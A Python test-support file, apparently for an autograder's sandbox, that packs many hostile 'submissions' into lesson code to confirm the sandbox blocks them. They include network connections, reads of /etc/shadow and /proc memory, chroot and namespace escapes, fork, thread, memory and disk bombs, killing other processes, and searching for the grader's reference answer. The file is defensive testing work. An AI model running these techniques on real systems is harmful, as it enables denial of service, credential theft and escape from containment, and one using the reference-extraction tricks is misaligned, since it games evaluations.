"""What a hostile submission might try. Each function is sent as source to where learners' code runs, and returns what it got.

An empty list is what the tests want to see inside the sandbox; outside of it most of these functions do find something.
"""

from __future__ import annotations

import inspect
import textwrap
from collections.abc import Callable


def submission(attack: Callable, *arguments: object) -> str:
    """A lesson's function that first attacks, and says what it got by an exception."""
    return "\n".join(
        [
            textwrap.dedent(inspect.getsource(attack)),
            textwrap.dedent(inspect.getsource(tried)),
            "def win_rate(scores_a, scores_b):",
            f"    got = {attack.__name__}(*{arguments!r})",
            "    if got:",
            "        raise RuntimeError('got: ' + ', '.join(map(str, got)))",
            "    return ((scores_a > scores_b).double() + 0.5 * (scores_a == scores_b)).mean()",
        ]
    )


def tried(actions: dict) -> list:
    """Names of the actions that were not refused."""
    got = []
    for name, action in actions.items():
        try:
            action()
        except (OSError, ImportError, AttributeError, ValueError):
            continue
        got.append(name)
    return got


# network


def connect(ports: dict, path: str, abstract: str) -> list:
    """Reach servers on this machine and elsewhere."""
    import ctypes
    import socket

    def tcp(family, address):
        with socket.socket(family, socket.SOCK_STREAM) as one:
            one.settimeout(0.5)
            one.connect(address)
            one.sendall(b"leak")

    def udp(address):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.sendto(b"leak", address)

    def unix(address, kind=socket.SOCK_STREAM):
        with socket.socket(socket.AF_UNIX, kind) as one:
            one.connect(address)
            one.send(b"leak")

    def by_pair(address):
        for one in socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM):
            one.sendto(b"leak", address)

    def by_number(number):
        if ctypes.CDLL(None).syscall(number, 2, 1, 0) < 0:
            raise OSError

    def listen():
        with socket.socket() as one:
            one.bind(("127.0.0.1", 0))
            one.listen()

    return tried(
        {
            "tcp to loopback": lambda: tcp(socket.AF_INET, ("127.0.0.1", ports["tcp"])),
            "tcp to ipv6 loopback": lambda: tcp(socket.AF_INET6, ("::1", ports["tcp6"])),
            "tcp elsewhere": lambda: tcp(socket.AF_INET, ("1.1.1.1", 80)),
            "udp to loopback": lambda: udp(("127.0.0.1", ports["udp"])),
            "udp elsewhere": lambda: udp(("1.1.1.1", 53)),
            "broadcast": lambda: udp(("255.255.255.255", ports["udp"])),
            "a socket in a folder": lambda: unix(path),
            "an abstract socket": lambda: unix("\0" + abstract),
            "a datagram from a pair": lambda: by_pair("\0" + abstract + "-datagrams"),
            "a raw socket": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1),
            "a netlink socket": lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0),
            "a vsock socket": lambda: socket.socket(40, socket.SOCK_STREAM),
            "the call by its number": lambda: by_number(41),
            "the call by its number for 32 bits": lambda: by_number(0x40000000 + 41),
            "a name": lambda: socket.gethostbyname("example.org"),
            "to listen": listen,
        }
    )


# reading


def read_files(paths: list, folders: list, judge: int) -> list:
    """Open files in all the ways there are, and by all the roads there are."""
    import ctypes
    import mmap
    import os

    libc = ctypes.CDLL(None, use_errno=True)

    def checked(fd):
        if fd < 0:
            raise OSError
        os.close(fd)

    roads = [
        "",
        "/proc/self/root",
        "/proc/1/root",
        f"/proc/{judge}/root",
        "/proc/self/cwd/../../../..",
        "../../../../..",
    ]
    roads += ["/proc/thread-self/root", f"/proc/{judge}/cwd/../../../../../..", "/scratch/../..", "/tmp/../.."]
    actions = {f"list {folder}": lambda p=folder: os.listdir(p) for folder in folders}
    for path in paths:
        for road in roads:
            actions[f"open {road}{path}"] = lambda p=road + path: open(p, "rb").close()
        actions[f"libc open {path}"] = lambda p=path: checked(libc.open(p.encode(), os.O_RDONLY))
        actions[f"openat2 {path}"] = lambda p=path: checked(
            libc.syscall(437, -100, p.encode(), (ctypes.c_uint64 * 3)(0, 0, 0), 24)
        )
        actions[f"map {path}"] = lambda p=path: mmap.mmap(os.open(p, os.O_RDONLY), 0, prot=mmap.PROT_READ)
        actions[f"link {path}"] = lambda p=path: (os.link(p, "linked"), open("linked").close())
        actions[f"symlink {path}"] = lambda p=path: (
            os.symlink(p, f"s{abs(hash(p))}"),
            open(f"s{abs(hash(p))}").close(),
        )
        actions[f"by handle {path}"] = lambda p=path: checked(
            libc.name_to_handle_at(-100, p.encode(), (ctypes.c_uint32 * 64)(128), ctypes.byref(ctypes.c_int()), 0)
        )
    return tried(actions)


def read_processes(judge: int) -> list:
    """Look at the judge, at the process that serves jobs, and at the machine."""
    import os

    actions = {}
    for pid in ("self", "1", str(judge), str(os.getppid())):
        for name in ("environ", "cmdline", "mem", "maps", "status", "fd", "root", "task"):
            actions[f"{pid}/{name}"] = lambda p=f"/proc/{pid}/{name}": os.close(os.open(p, os.O_RDONLY))
    for path in (
        "/sys",
        "/proc",
        "/dev/mem",
        "/dev/kmsg",
        "/dev/vda",
        "/etc/shadow",
        "/etc/passwd",
        "/root",
        "/home",
        "/run",
    ):
        actions[path] = lambda p=path: os.close(os.open(p, os.O_RDONLY))
    return tried(actions)


def walk_descriptors() -> list:
    """Whatever was left open: a file, or a folder to walk up from."""
    import os
    import stat

    got = []
    for fd in range(1024):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISDIR(mode):
            got.append(f"folder {fd}: {os.listdir(fd)[:3]}")
        elif stat.S_ISREG(mode) or stat.S_ISSOCK(mode):
            got.append(f"file or socket {fd}")
        elif not (stat.S_ISCHR(mode) and fd < 3) and not stat.S_ISFIFO(mode):
            got.append(f"something at {fd}")
    return got


def leave_the_tree() -> list:
    """Mount, change the root, enter other namespaces."""
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)

    def call(name, *arguments):
        if getattr(libc, name)(*arguments) < 0:
            raise OSError

    def number(*arguments):
        if libc.syscall(*arguments) < 0:
            raise OSError

    def escape():
        os.mkdir("inner")
        here = os.open(".", os.O_RDONLY)
        os.chroot("inner")
        os.fchdir(here)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")

    os.makedirs("place", exist_ok=True)
    return tried(
        {
            "chroot": escape,
            "mount proc": lambda: call("mount", b"proc", b"place", b"proc", 0, None),
            "mount tmpfs": lambda: call("mount", b"tmpfs", b"place", b"tmpfs", 0, None),
            "bind": lambda: call("mount", b"/", b"place", None, 4096, None),
            "remount": lambda: call("mount", None, b"/", None, 32 | 4096, None),
            "umount": lambda: call("umount2", b"/scratch", 2),
            "pivot_root": lambda: call("pivot_root", b".", b"."),
            "fsopen": lambda: number(430, b"tmpfs", 0),
            "open_tree": lambda: number(428, -100, b"/", 1),
            "a user namespace": lambda: call("unshare", 0x10000000),
            "a mount namespace": lambda: call("unshare", 0x20000),
            "a network namespace": lambda: call("unshare", 0x40000000),
            "clone into a user namespace": lambda: number(56, 0x10000000 | 17, 0, 0, 0, 0),
            "clone3": lambda: number(435, (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17), 88),
            "setns": lambda: call("setns", 0, 0),
            "a new host name": lambda: call("sethostname", b"x", 1),
        }
    )


def inspect_reference() -> list:
    """Find the reference of the exercise: import it, call it, read it."""
    import importlib
    import inspect as inspection
    import sys

    got = []
    for name in (
        "autograder.judge",
        "autograder.facts",
        "autograder.exercise",
        "autograder.lesson_06.exercises",
        "course.build",
    ):
        try:
            importlib.import_module(name)
            got.append(f"import {name}")
        except (ImportError, OSError):
            pass
    module = importlib.import_module("rlhf_core.evaluation")
    for one in (module.win_rate, module):
        try:
            text = inspection.getsource(one)
        except OSError:
            continue
        if "scores_a > scores_b" in text or "share of prompts" in text.lower():
            got.append("source")
    import torch

    try:
        module.win_rate(torch.zeros(2), torch.zeros(2))
        got.append("a call")
    except BaseException as error:
        if type(error).__name__ != "ReferenceUsed":
            got.append(f"{type(error).__name__} from the reference")
    if "torch.mean" in str(module.win_rate.__code__.co_names) or "mean" in module.win_rate.__code__.co_names:
        got.append("code")
    got += [name for name in sys.modules if name.startswith(("autograder.lesson", "autograder.judge", "course"))]
    return got


def search_memory(masked: str) -> list:
    """Look for a text in all memory that can be reached; it comes masked, so that the search does not find itself."""
    import ctypes
    import gc
    import os

    import numpy as np

    libc, mask = ctypes.CDLL(None), 0x55
    wanted = bytes.fromhex(masked)
    reading, writing = os.pipe()
    page = 4096

    def readable(address):
        # the kernel says whether a page is there, where reading it would crash
        if libc.write(writing, ctypes.c_void_p(address), 1) != 1:
            return False
        os.read(reading, 1)
        return True

    libc.sbrk.restype = ctypes.c_void_p
    end = libc.sbrk(0)
    starts = {id(one) & ~0xFFFFF for one in gc.get_objects()}
    ranges = [(s, s + 0x100000) for s in sorted(starts | {s + d for s in starts for d in (-0x100000, 0x100000)})]
    bottom = end - page
    while readable(bottom):
        bottom -= page
    got, seen, previous = [], 0, b""
    for low, high in [(bottom + page, end), *ranges]:
        for address in range(low, high, page):
            if not readable(address):
                previous = b""
                continue
            content = np.frombuffer(ctypes.string_at(address, page), dtype=np.uint8) ^ mask
            block = previous + content.tobytes()
            seen += 1
            if wanted in block:
                got.append(hex(address))
                if len(got) > 3:
                    return got
            previous = block[-len(wanted) :]
    assert seen > 1000, f"only {seen} pages"
    return got


# writing


def write_files(places: list, victim: str) -> list:
    """Make files in folders, and spoil one."""
    import os

    actions = {}
    for place in places:
        actions[f"write {place}"] = lambda p=place: open(f"{p}/written-by-hostile", "w").close()
        actions[f"folder {place}"] = lambda p=place: os.mkdir(f"{p}/made-by-hostile")
        actions[f"socket {place}"] = lambda p=place: os.mkfifo(f"{p}/fifo-by-hostile")
        actions[f"mode of {place}"] = lambda p=place: os.chmod(p, 0o777)
    actions |= {
        "append": lambda: open(victim, "a").close(),
        "overwrite": lambda: open(victim, "r+").close(),
        "truncate": lambda: os.truncate(victim, 0),
        "truncate on opening": lambda: os.open(victim, os.O_RDONLY | os.O_TRUNC),
        "chmod": lambda: os.chmod(victim, 0),
        "chown": lambda: os.chown(victim, os.getuid(), os.getgid()),
        "utime": lambda: os.utime(victim, (0, 0)),
        "xattr": lambda: os.setxattr(victim, "user.x", b"1"),
        "unlink": lambda: os.unlink(victim),
        "rename": lambda: os.rename(victim, victim + "2"),
        "replace": lambda: (open("mine", "w").close(), os.replace("mine", victim)),
        "link": lambda: os.link(victim, victim + "2"),
        "symlink": lambda: os.symlink(victim, victim + "3"),
        "a device": lambda: os.mknod("disk", 0o60600, os.makedev(254, 0)),
    }
    return tried(actions)


# processes


def fork_bomb() -> list:
    """Processes without end."""
    import os

    got = []
    for _ in range(10_000):
        try:
            child = os.fork()
        except OSError:
            break
        if child == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
        got.append(child)
        if len(got) > 50:
            break
    return got


def start_programs() -> list:
    """Every way to run something."""
    import ctypes
    import os
    import subprocess
    import sys

    libc = ctypes.CDLL(None, use_errno=True)

    def vfork():
        if libc.syscall(58) < 0:
            raise OSError

    def own():
        with open("script", "w") as file:
            file.write("#!/bin/sh\n")
        os.chmod("script", 0o700)
        os.execv("./script", ["script"])

    def process():
        import multiprocessing

        multiprocessing.get_context("fork").Process(target=print).start()

    return tried(
        {
            "subprocess": lambda: subprocess.run(["/bin/true"]),
            "python": lambda: subprocess.run([sys.executable, "-c", ""]),
            "system": lambda: None if os.system("true") == 0 else (_ for _ in ()).throw(OSError()),
            "popen": lambda: os.popen("true").close(),
            "spawn": lambda: os.posix_spawn("/bin/true", ["true"], {}),
            "vfork": vfork,
            "multiprocessing": process,
            "own script": own,
            "exec": lambda: os.execv("/bin/true", ["true"]),
            "the loader": lambda: os.execv("/lib64/ld-linux-x86-64.so.2", ["ld.so", "/bin/true"]),
        }
    )


def daemonize(path: str) -> list:
    """A process that outlives the job."""
    import os
    import time

    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(3600)
            os._exit(0)
    except OSError:
        return []
    return ["a daemon"]


def disturb_others(judge: int) -> list:
    """Signals, limits and priorities of other processes."""
    import ctypes
    import os
    import resource
    import signal

    libc = ctypes.CDLL(None, use_errno=True)

    def call(*arguments):
        if libc.syscall(*arguments) < 0:
            raise OSError

    actions = {}
    for pid in {1, judge, os.getppid() or 1}:
        actions |= {
            f"signal 0 to {pid}": lambda p=pid: os.kill(p, 0),
            f"interrupt {pid}": lambda p=pid: os.kill(p, signal.SIGINT),
            f"stop {pid}": lambda p=pid: os.kill(p, signal.SIGSTOP),
            f"kill {pid}": lambda p=pid: os.kill(p, signal.SIGKILL),
            f"kill thread {pid}": lambda p=pid: call(200, p, 9),
            f"kill by pidfd {pid}": lambda p=pid: os.pidfd_open(p),
            f"queue {pid}": lambda p=pid: call(129, p, 9, (ctypes.c_uint64 * 16)()),
            f"limits of {pid}": lambda p=pid: resource.prlimit(p, resource.RLIMIT_CPU, (1, 1)),
            f"priority of {pid}": lambda p=pid: os.setpriority(os.PRIO_PROCESS, p, 19),
            f"processors of {pid}": lambda p=pid: os.sched_setaffinity(p, {0}),
            f"scheduling of {pid}": lambda p=pid: os.sched_setscheduler(p, os.SCHED_IDLE, os.sched_param(0)),
            f"attach to {pid}": lambda p=pid: call(101, 16, p, 0, 0),
            f"seize {pid}": lambda p=pid: call(101, 0x4206, p, 0, 0),
            f"read memory of {pid}": lambda p=pid: call(
                310, p, (ctypes.c_uint64 * 2)(), 1, (ctypes.c_uint64 * 2)(), 1, 0
            ),
        }
    actions |= {
        "be traced": lambda: call(101, 0, 0, 0, 0),
        "everybody": lambda: os.kill(-1, signal.SIGTERM),
        "priority of the user": lambda: os.setpriority(os.PRIO_USER, 0, 19),
    }
    return tried(actions)


def use_the_kernel() -> list:
    """Parts of the kernel that no exercise needs, and memory that limits do not count."""
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)

    def call(*arguments):
        if libc.syscall(*arguments) < 0:
            raise OSError

    return tried(
        {
            "shared memory": lambda: call(29, 0, 2**20, 0o1600),
            "a semaphore": lambda: call(64, 0, 1, 0o1600),
            "a message queue": lambda: call(68, 0, 0o1600),
            "a posix queue": lambda: call(240, b"/q", os.O_CREAT | os.O_RDWR, 0o600, None),
            "memory without a file": lambda: os.memfd_create("x"),
            "secret memory": lambda: call(447, 0),
            "bpf": lambda: call(321, 0, (ctypes.c_uint64 * 16)(1, 4, 4, 1), 128),
            "perf": lambda: call(298, (ctypes.c_uint64 * 16)(), 0, -1, -1, 0),
            "a key": lambda: call(248, b"user", b"x", b"y", 1, -4),
            "the session's keys": lambda: call(250, 0, -3, 1),
            "io_uring": lambda: call(425, 4, (ctypes.c_uint32 * 30)()),
            "userfaultfd": lambda: call(323, 0),
            "fanotify": lambda: call(300, 0, 0),
            "the kernel's log": lambda: call(103, 3, ctypes.create_string_buffer(100), 100),
            "ports": lambda: call(172, 3),
            "a module": lambda: call(175, b"", 0, b""),
            "to outlive the judge": lambda: call(157, 1, 0),
            "the clock": lambda: call(227, 0, (ctypes.c_uint64 * 2)(1, 1)),
            "another user": lambda: os.setuid(os.getuid() + 1),
            "other groups": lambda: os.setgroups([0]),
        }
    )


# limits


def raise_limits() -> list:
    """Undo the bounds."""
    import resource

    got = []
    for name in ("AS", "CPU", "FSIZE", "NPROC", "NOFILE", "CORE"):
        limit = getattr(resource, f"RLIMIT_{name}")
        soft, hard = resource.getrlimit(limit)
        if hard == resource.RLIM_INFINITY:
            got.append(f"no limit {name}")
        for bounds in ((resource.RLIM_INFINITY,) * 2, (hard, hard + 1), (soft, resource.RLIM_INFINITY)):
            try:
                resource.setrlimit(limit, bounds)
                got.append(name)
            except (ValueError, OSError):
                pass
    return got


def memory_bomb(megabytes: int) -> list:
    """More memory than there is."""
    import mmap

    import torch

    held, got = [], []
    for what, take in {
        "tensor": lambda: torch.ones(megabytes * 2**18),
        "bytes": lambda: bytearray(megabytes * 2**20),
        "shared": lambda: mmap.mmap(-1, megabytes * 2**20),
    }.items():
        try:
            held.append(take())
            got.append(what)
        except (MemoryError, RuntimeError, OSError):
            pass
    return got


def fill_the_disk(megabytes: int) -> list:
    """One large file, a file with a hole, many files."""
    import os

    got, block = [], b"x" * 2**20
    written = 0
    try:
        with open("large", "wb", buffering=0) as file:
            while written < 10 * 2**30:
                written += file.write(block)
    except OSError:
        pass
    try:
        for number in range(1000):
            with open(f"part{number}", "wb", buffering=0) as file:
                written += file.write(block)
    except OSError:
        pass
    if written > (megabytes + 1) * 2**20:
        got.append(f"{written // 2**20} MB")
    try:
        with open("hole", "wb") as file:
            file.truncate(10 * 2**30)
        got.append("a file of 10 GB")
    except OSError:
        pass
    os.unlink("large")
    try:
        for number in range(1_000_000):
            open(f"f{number}", "w").close()
        got.append("a million files")
    except OSError:
        pass
    return got


def nest_folders() -> list:
    """Leave something behind that is hard to remove."""
    import os

    for _ in range(2000):
        try:
            os.mkdir("d")
            os.chdir("d")
        except OSError:
            break
    try:
        os.chmod(".", 0)
    except OSError:
        pass
    return []


def thread_bomb() -> list:
    """Threads without end."""
    import threading

    threading.stack_size(65536)
    stop, count = threading.Event(), 0
    try:
        while count < 5000:
            threading.Thread(target=stop.wait, daemon=True).start()
            count += 1
    except RuntimeError:
        pass
    stop.set()
    return [f"{count} threads"] if count > 1000 else []


def open_everything() -> list:
    """File descriptors and pipes without end."""
    import os

    opened = []
    try:
        while len(opened) < 100_000:
            opened += os.pipe()
    except OSError:
        pass
    for fd in opened:
        os.close(fd)
    return [f"{len(opened)} descriptors"] if len(opened) > 1000 else []


def loop_for_ever() -> list:
    """An endless loop that no exception and no polite signal ends."""
    import signal

    for number in range(1, 32):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass


def sleep_for_ever() -> list:
    """Waiting costs no processor time."""
    import time

    while True:
        time.sleep(1000)


def flood() -> list:
    """Write into everything that is open."""
    import os

    block = b"\xff" * 2**20
    for _ in range(2000):
        for fd in range(64):
            try:
                os.write(fd, block)
            except OSError:
                continue
    return []


def die(how: str) -> list:
    """End at once."""
    import ctypes
    import os

    if how == "exit":
        os._exit(0)
    elif how == "kill":
        os.kill(os.getpid(), 9)
    elif how == "abort":
        os.abort()
    elif how == "crash":
        ctypes.string_at(8)
    return [f"survived {how}"]


def environment(names: list, machine: str) -> list:
    """What the surroundings tell of the teacher."""
    import os
    import platform
    import sys

    text = " ".join([*os.environ, *os.environ.values(), os.getcwd(), *sys.argv, *sys.orig_argv, *sys.path])
    return [name for name in names if name in text] + [machine] * (platform.node() == machine)
